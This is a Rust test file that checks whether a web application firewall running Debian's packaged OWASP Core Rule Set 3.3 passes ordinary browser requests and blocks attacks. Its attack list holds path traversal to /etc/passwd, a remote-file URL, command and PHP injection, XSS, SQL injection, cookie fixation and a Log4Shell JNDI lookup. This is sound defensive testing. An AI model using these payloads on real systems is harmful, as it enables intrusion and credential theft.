//! CRS 3.3 as Debian packages it: its look-behind needs the backtracking engine. It loads, lets ordinary requests
//! pass, and refuses attacks of each of its classes wherever they stand in a request.

use std::path::Path;
use std::sync::Arc;

use hop3_tests::ftw::engine::{self, DEBIAN_CRS, Setup};
use hop3_tests::ftw::request::Request;
use hop3_tests::ftw::schema::{Fields, Input};
use hop3_tests::report::Report;
use hop3_waf::Ruleset;

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const MULTIPART: &str = "multipart/form-data; boundary=B";

/// Targets, and bodies with their type, that an ordinary user sends.
const ORDINARY: &[(&str, Option<(&str, &str)>)] = &[
    ("/", None),
    ("/index.html?id=42", None),
    ("/shop/item?id=42&name=blue+shoes&sort=price", None),
    ("/search?q=caf%C3%A9+au+lait", None),
    ("/form", Some((FORM, "name=Ann+Smith&city=Paris&note=hello+world%21&n=7"))),
    ("/api", Some((JSON, r#"{"user":{"name":"Ann","tags":["a","b"]},"n":3}"#))),
    (
        "/upload",
        Some((
            MULTIPART,
            "--B\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\n\
             Content-Type: text/plain\n\nhello\n--B--\n",
        )),
    ),
];

/// Attacks as an argument's value, by the group of rules that is meant for them.
const ATTACKS: &[(&str, &str)] = &[
    ("930 files", "../../../../etc/passwd"),
    ("931 remote files", "http://192.0.2.1/shell.txt?"),
    ("932 commands", ";cat /etc/passwd"),
    ("933 PHP", "<?php system('id'); ?>"),
    ("941 scripts", "<script>alert(1)</script>"),
    ("942 SQL", "1 UNION SELECT password FROM users--"),
    ("943 sessions", "<script>document.cookie=\"PHPSESSID=1; domain=.example.org\"</script>"),
    ("944 Java", "${jndi:ldap://192.0.2.1/a} java.lang.Runtime"),
];

#[test]
fn debian_crs_3_loads_and_blocks() {
    let mut report = Report::new("crs-3.3");
    if !Path::new(DEBIAN_CRS).join("rules").is_dir() {
        report.skip("all", "Debian's package modsecurity-crs is not installed");
        return report.print();
    }
    let ruleset = engine::ruleset(Path::new(DEBIAN_CRS), Setup::Blocking).map(Arc::new);
    match &ruleset {
        Ok(ruleset) if ruleset.rule_count() > 400 => report.pass(),
        Ok(ruleset) => report.fail("loads", format!("only {} rules", ruleset.rule_count())),
        Err(error) => report.fail("loads", error.as_str()),
    }
    if let Ok(ruleset) = &ruleset {
        judge(ruleset, &mut report);
    }
    report.print();
    assert!(report.failed().is_empty(), "{} cases failed", report.failed().len());
}

fn judge(ruleset: &Arc<Ruleset>, report: &mut Report) {
    for (target, body) in ORDINARY {
        expect(ruleset, request(target, *body), 200, target, report);
    }
    for (class, attack) in ATTACKS {
        let encoded: String = attack.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let json = serde_json::json!({ "a": [{ "b": attack }] }).to_string();
        let part = format!("--B\nContent-Disposition: form-data; name=\"a\"\n\n{attack}\n--B--\n");
        for (place, request) in [
            ("the query", request(&format!("/?a={encoded}"), None)),
            ("a form", request("/", Some((FORM, &format!("a={encoded}"))))),
            ("JSON", request("/", Some((JSON, &json)))),
            ("a part", request("/", Some((MULTIPART, &part)))),
        ] {
            expect(ruleset, request, 403, &format!("{class} in {place}"), report);
        }
    }
}

fn expect(ruleset: &Arc<Ruleset>, request: Input, status: u16, case: &str, report: &mut Report) {
    match Request::build(&request).map(|request| engine::run(ruleset, &request)) {
        Ok(outcome) if outcome.status == status => report.pass(),
        Ok(outcome) => {
            report.fail(
                case,
                format!("status {} instead of {status}: {:?}", outcome.status, outcome.logged.ids),
            );
        }
        Err(error) => report.fail(case, error),
    }
}

/// What a browser sends.
fn request(target: &str, body: Option<(&str, &str)>) -> Input {
    let mut headers: Vec<(String, String)> = [
        ("Host", "shop.example.org"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.5"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()))
    .into();
    headers.extend(body.map(|(kind, _)| ("Content-Type".to_owned(), kind.to_owned())));
    Input {
        method: Some(if body.is_some() { "POST" } else { "GET" }.to_owned()),
        uri: Some(target.to_owned()),
        headers: Fields(headers),
        data: body.map(|(_, text)| text.to_owned()),
        ..Input::default()
    }
}
